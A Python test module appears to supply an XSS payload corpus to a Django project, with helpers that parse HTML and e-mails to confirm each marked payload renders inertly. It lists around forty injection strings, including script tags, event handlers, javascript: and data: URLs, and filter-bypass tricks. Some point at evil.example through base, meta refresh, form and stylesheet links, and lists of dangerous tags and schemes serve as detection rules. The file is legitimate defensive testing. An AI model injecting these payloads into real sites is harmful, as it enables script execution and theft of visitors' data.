"""An XSS payload corpus, and the checks that a page or an e-mail rendered them inertly.

Every payload carries a unique marker (`xss<N>`), so a test can put all of them in the
free-text fields of one object and still tell which one got through. A payload "got through"
when:

- it appears verbatim in HTML although it contains a character that autoescaping changes
  (`<`, `>`, `"`, `'`, `&`): the template used `|safe`, `mark_safe` or `{% autoescape off %}`;
- or the marker ends up inside executable HTML: a `<script>` block, an `on*=` attribute,
  a `javascript:` / `data:` / `vbscript:` URL in href/src/action/formaction, an `<iframe>`,
  `<object>`, `<embed>`, `<base>` or `<meta http-equiv>` element.

    from tests.security.payloads import PAYLOADS, assert_inert_in_html

    organization.description = "\\n".join(PAYLOADS)
    assert_inert_in_html(client.get(url).content.decode())

Fields with a length limit take `payloads_fitting(max_length)`. PostgreSQL text cannot hold
NUL (\\x00): `NUL_PAYLOAD` is kept apart, for form-level tests that expect a clear error.
"""

from html.parser import HTMLParser

from tests.security.html import DATA_SCRIPT_TYPES

ESCAPED_CHARACTERS = set("<>\"'&")
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "base", "frame", "frameset", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "poster", "data"}

_TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<img src=x onerror=\"alert('{m}')\">",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' onfocus='alert(\"{m}\")' autofocus '",
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    " javascript:alert('{m}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</style><script>alert('{m}')</script>",
    "<!--<script>alert('{m}')</script>-->",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    "<body onload=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<math><mi xlink:href=\"javascript:alert('{m}')\">x</mi></math>",
    '<base href="https://evil.example/{m}/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{m}">',
    '<form action="https://evil.example/{m}"><button>go</button></form>',
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "{{{{ '{m}' }}}}{{% debug %}}${{7*7}}",
    "[{m}](javascript:alert(1))",
    "\u202e<script>alert('{m}')</script>\u202c",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    '<img src="x" alt="{m}" onerror=alert(1)//">',
    "\"-alert('{m}')-\"",
    "';alert('{m}');//",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    '<link rel=stylesheet href="https://evil.example/{m}.css">',
    '<input value="{m}" autofocus onfocus=alert(1)>',
    "<video><source onerror=\"alert('{m}')\"></video>",
]

PAYLOADS: list[str] = [template.format(m=f"xss{n}") for n, template in enumerate(_TEMPLATES)]
MARKERS: list[str] = [f"xss{n}" for n in range(len(_TEMPLATES))]
NUL_PAYLOAD = "nul\x00<script>alert('xssnul')</script>"


def payloads_fitting(max_length: int) -> list[str]:
    return [payload for payload in PAYLOADS if len(payload) <= max_length]


class _ExecutableContent(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        blob = " ".join(f"{name}={value}" for name, value in attrs)
        if tag in DANGEROUS_TAGS and _has_marker(blob):
            self.findings.append(f"<{tag} {blob}>")
        if tag == "meta" and "http-equiv" in attributes and _has_marker(blob):
            self.findings.append(f"<meta {blob}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and _has_marker(blob + value):
                self.findings.append(f"<{tag} {name}={value!r}>")
            dangerous = value.strip().lower().startswith(DANGEROUS_SCHEMES) or name == "srcdoc"
            if name in URL_ATTRIBUTES and dangerous and _has_marker(value):
                self.findings.append(f"<{tag} {name}={value!r}>")
        # A json_script data island is not run (and cannot be left: it escapes "<").
        script_type = (attributes.get("type") or "").lower()
        self._in_script = tag == "script" and script_type not in DATA_SCRIPT_TYPES

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and _has_marker(data):
            self.findings.append(f"<script>{data[:80]}</script>")


def _has_marker(text: str) -> bool:
    return any(marker in text for marker in MARKERS) or "xssnul" in text


def executable_payloads(html: str) -> list[str]:
    """Payloads that made it into executable HTML (empty when everything is inert)."""
    parser = _ExecutableContent()
    parser.feed(html)
    parser.close()
    return parser.findings


def verbatim_payloads(html: str, payloads: list[str] | None = None) -> list[str]:
    """Payloads with escapable characters that appear unescaped in `html`."""
    return [
        payload
        for payload in (PAYLOADS if payloads is None else payloads)
        if ESCAPED_CHARACTERS & set(payload) and payload in html
    ]


def assert_inert_in_html(html: str, payloads: list[str] | None = None) -> None:
    problems = verbatim_payloads(html, payloads) + executable_payloads(html)
    assert not problems, "unescaped payloads:\n" + "\n".join(problems)


def assert_inert_in_email(message, payloads: list[str] | None = None) -> None:
    """HTML alternatives are checked like pages; the plain-text body may show payloads as text
    (a mail client does not run it), but never an HTML part without escaping."""
    for content, mimetype in getattr(message, "alternatives", []):
        if mimetype == "text/html":
            assert_inert_in_html(content, payloads)
    if getattr(message, "content_subtype", "plain") == "html":
        assert_inert_in_html(message.body, payloads)
